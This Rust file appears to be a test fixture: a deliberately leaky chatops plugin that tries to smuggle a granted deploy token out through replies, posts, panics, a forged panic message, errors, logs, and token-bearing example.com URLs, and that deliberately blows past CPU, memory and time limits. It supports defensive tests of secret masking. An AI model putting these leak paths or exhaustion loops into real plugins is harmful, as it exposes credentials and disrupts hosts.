//! Tries every way out of the host with a granted secret in it: replies, progress, posts,
//! panics, traps, limits, errors, refusals, log lines and event results. The boundary
//! tests grep everything that left for the secret's bytes.
use chatops_sdk::*;

struct Leaky;

/// A token the plugin holds without a grant (say, one an upstream handed it): the host
/// cannot know its value, so it must mask it wherever it shows a URL.
const UPSTREAM_TOKEN: &str = "upstream-token-9f8e7d";

fn token() -> String {
    secret("deploy-token").unwrap_or_else(|e| format!("(no token: {})", e.message()))
}

impl Plugin for Leaky {
    fn describe() -> PluginInfo {
        let mut info = PluginInfo::new("leaky", "0.1.0", "Puts its secret everywhere");
        for (name, what) in [
            ("reply", "Reply with the secret"),
            ("progress", "Show the secret as progress"),
            ("announce", "Post the secret to #ops"),
            ("panic", "Panic with the secret"),
            (
                "trap",
                "Print a panic look-alike with the secret, then trap",
            ),
            ("spin", "Print the secret, then loop past the CPU limit"),
            ("hog", "Print the secret, then grow past the memory limit"),
            (
                "nap",
                "Print the secret, then sleep past the wall-time limit",
            ),
            ("fail", "Fail with the secret"),
            ("deny", "Refuse with the secret"),
            ("misuse", "A usage error with the secret"),
            ("huge-fail", "Fail with megabytes of text"),
            ("fetch", "Request URLs that carry tokens, which are refused"),
            ("ask", "Ask for a secret named like the secret"),
            ("shout", "Post to a channel named like the secret"),
            ("log", "Log the secret and print it on stdout"),
        ] {
            info = info.command(Command::new(name, what));
        }
        info.secret("deploy-token", "the token it leaks")
            .request(Capability::Post("ops".into()), "posts")
    }

    fn run(inv: Invocation) -> Result<Reply, CommandError> {
        let t = token();
        match inv.command.as_str() {
            "reply" => Ok(Reply::text(format!("the token is {t}"))),
            "progress" => {
                progress(format!("using {t}"));
                Ok(Reply::text("done"))
            }
            "announce" => {
                post("ops", format!("token: {t}"))?;
                Ok(Reply::text("posted"))
            }
            "panic" => panic!("could not deploy with {t}"),
            "trap" => {
                eprintln!("thread 'main' panicked at src/lib.rs:1:1:\nlooks like a panic: {t}");
                std::process::abort()
            }
            "spin" => {
                eprintln!("spinning with {t}");
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "hog" => {
                eprintln!("growing with {t}");
                let mut keep: Vec<Vec<u8>> = Vec::new();
                loop {
                    keep.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&keep);
                }
            }
            "nap" => {
                eprintln!("sleeping with {t}");
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(Reply::text("woke"))
            }
            "fail" => Err(CommandError::failed(format!("deploy failed: {t}"))),
            "deny" => Err(CommandError::denied(format!("not with {t}"))),
            "misuse" => Err(CommandError::usage(format!("bad token {t}"))),
            "huge-fail" => Err(CommandError::failed(format!("{t} {}", "x".repeat(5 << 20)))),
            "fetch" => {
                for url in [
                    format!("https://example.com/deploy?token={t}&team=ops"),
                    format!("https://deployer:{t}@example.com/v1"),
                    format!("https://example.com/hook?key={UPSTREAM_TOKEN}"),
                ] {
                    let _ = http::get(&url);
                }
                Ok(Reply::text("fetched"))
            }
            "ask" => Ok(Reply::text(match secret(&format!("x-{t}")) {
                Ok(_) => "granted?!".to_string(),
                Err(e) => format!("refused: {}", e.message().len()),
            })),
            "shout" => Ok(Reply::text(match post(&format!("chan-{t}"), "hi") {
                Ok(()) => "posted?!".to_string(),
                Err(_) => "refused".to_string(),
            })),
            "log" => {
                log(Level::Warn, format!("logging {t}"));
                println!("stdout with {t}");
                Ok(Reply::text("logged"))
            }
            other => Err(CommandError::failed(format!("no command {other}"))),
        }
    }

    fn on_event(event: Event) -> Result<Vec<Post>, CommandError> {
        let t = token();
        match event {
            Event::Schedule(name) if name == "fail" => {
                Err(CommandError::failed(format!("event failed with {t}")))
            }
            Event::Schedule(name) if name == "panic" => panic!("event panic with {t}"),
            Event::Schedule(name) => Ok(vec![
                Post::text("ops", format!("{name}: {t}")),
                Post::text("not-granted", format!("{name}: {t}")),
            ]),
            Event::Webhook(w) => Ok(vec![Post::text(
                "ops",
                format!("{} {} ({} bytes) {t}", w.method, w.path, w.body.len()),
            )]),
        }
    }
}

plugin!(Leaky);
